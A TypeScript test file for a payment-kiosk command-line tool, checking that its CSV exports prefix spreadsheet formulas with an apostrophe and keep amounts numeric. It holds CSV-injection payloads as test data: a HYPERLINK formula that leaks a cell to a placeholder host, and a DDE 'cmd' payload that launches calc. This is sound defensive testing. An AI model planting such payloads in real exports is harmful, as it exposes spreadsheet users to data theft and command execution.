/**
 * CSV formula injection (issue 13.5): a slip whose case reference is a spreadsheet formula is paid
 * through the visitor API and voided with a formula as the reason; every CSV the real `oplatomat`
 * command writes must show those as text (a leading `'`), while amounts stay numbers.
 */
import { execFile } from "node:child_process";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { businessDay } from "../../../kiosk/domain/time.ts";
import { voidPayment } from "../../../kiosk/flow/void-payment.ts";
import { type Harness, makeHarness, waitForState } from "../../helpers/kiosk-harness.ts";
import { issueSlip } from "../../helpers/test-config.ts";

const run = promisify(execFile);
const BIN = path.resolve("bin/oplatomat.mjs");
const DEMO = path.resolve("config/demo.yaml");

const CASE = '=HYPERLINK("http://x.invalid/?"&A1,"OK")';
const SLIP = "-1/2026";
const LABEL = "@SUM(1+1)";
const REASON = "+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

let h: Harness;
let day: string;

async function oplatomat(args: string[]): Promise<string> {
  const { stdout } = await run(process.execPath, [BIN, ...args, "--config", DEMO, "--data", h.dataDir], {
    env: { ...process.env, OPLATOMAT_CONFIG: "" },
    timeout: 30_000,
  });
  return stdout;
}

/** RFC 4180 records, `delimiter`-separated; quoted fields may hold the delimiter, quotes and line ends. */
function parseCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field !== "" || row.length > 0) rows.push([...row, field]);
  return rows;
}

function cells(text: string, delimiter: string): string[] {
  return parseCsv(text.replace(/^\uFEFF/, ""), delimiter).flat();
}

beforeAll(async () => {
  h = await makeHarness({
    logName: "csv-injection",
    config: (c) => ({
      ...c,
      components: { ...c.components, DR: { label: { pl: LABEL }, recipient: "POWIAT" } },
    }),
  });
  const payload = issueSlip(h.keys, { slip: SLIP, caseRef: CASE, lines: [{ code: "DR", amount: 5400 }] });
  const scanned = await h.kiosk.app.inject({ method: "POST", url: "/api/scan", payload: { payload } });
  expect(scanned.statusCode).toBe(200);
  expect((await h.kiosk.app.inject({ method: "POST", url: "/api/session/pay" })).statusCode).toBe(202);
  await waitForState(h.kiosk, ["done"]);
  const paymentId = h.kiosk.flow.view().payment?.id as string;
  // The second payment is voided with a formula as its reason (the settlement CSV lists reversals).
  const second = issueSlip(h.keys, { caseRef: "-2+3", lines: [{ code: "TAB", amount: 8000 }] });
  await h.kiosk.app.inject({ method: "POST", url: "/api/scan", payload: { payload: second } });
  await h.kiosk.app.inject({ method: "POST", url: "/api/session/pay" });
  await waitForState(h.kiosk, ["done"]);
  const voided = h.kiosk.flow.view().payment?.id as string;
  await voidPayment({
    db: h.kiosk.db,
    terminal: h.kiosk.devices.terminal,
    config: h.kiosk.config,
    paymentId: voided,
    actor: "test",
    reason: REASON,
  });
  expect(paymentId).toBeTruthy();
  day = businessDay(new Date(), "Europe/Warsaw");
}, 60_000);

afterAll(async () => {
  await h?.close();
});

describe("every CSV export neutralises formulas in text cells and keeps amounts numeric", () => {
  const exports: Array<[string, string[], string]> = [
    ["accounting export, standard", ["export", "payments", "--format", "csv"], ","],
    ["accounting export, excel-pl", ["export", "payments", "--format", "csv", "--dialect", "excel-pl"], ";"],
    ["settlement CSV, standard", ["report", "settlement", "--format", "csv"], ","],
  ];

  for (const [name, args, delimiter] of exports) {
    it(name, async () => {
      const dayArgs = args[0] === "export" ? ["--from", day, "--to", day] : ["--date", day];
      const text = await oplatomat([...args, ...dayArgs]);
      const all = cells(text, delimiter);
      expect(all).toContain(`'${CASE}`);
      expect(all).toContain(`'${SLIP}`);
      expect(all).toContain(`'${LABEL}`);
      expect(all).toContain("'-2+3");
      if (args[0] === "report") expect(all).toContain(`'${REASON}`);
      expect(all.filter((c) => FORMULA_START.test(c))).toEqual([]);
      // Amounts are numbers the spreadsheet can sum: never prefixed.
      expect(all).toContain(delimiter === ";" ? "54,00" : "54.00");
      expect(all.filter((c) => /^'\d/.test(c))).toEqual([]);
    }, 60_000);
  }

  it("the JSON export keeps the text as it was (no spreadsheet reads it)", async () => {
    const rows = JSON.parse(
      await oplatomat(["export", "payments", "--from", day, "--to", day, "--format", "json"]),
    );
    expect(rows.map((r: { case: string }) => r.case)).toContain(CASE);
  }, 60_000);
});
